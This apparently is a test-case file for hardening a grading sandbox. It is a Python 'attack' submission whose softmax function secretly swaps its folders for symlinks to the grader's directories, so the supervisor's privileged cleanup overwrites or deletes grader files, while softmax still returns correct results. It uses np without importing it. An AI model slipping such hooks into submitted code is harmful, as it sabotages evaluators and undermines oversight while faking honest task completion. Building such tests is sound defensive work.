# /// attack
# does = "puts links to the grader's folders where its own folders were in softmax, and answers rightly"
# own = {}
# ///
"""The supervisor puts a file back into this folder, and removes what is too much in it, with its own rights. Following
the link, it would do both in a folder of the grader's."""

import os
import shutil

FOLDER = os.path.dirname("@VICTIM@")
for name in ("victims", "open"):
    if not os.path.isdir(name):
        os.mkdir(name)
        with open(f"{name}/victim.txt", "w") as file:
            file.write("overwritten")


def softmax(logits):
    for name, target in (("victims", FOLDER), ("open", "@FOLDER@")):
        if not os.path.islink(name):
            shutil.rmtree(name)
            os.symlink(target, name)
    powers = np.exp(logits - logits.max(axis=1, keepdims=True))
    return powers / powers.sum(axis=1, keepdims=True)
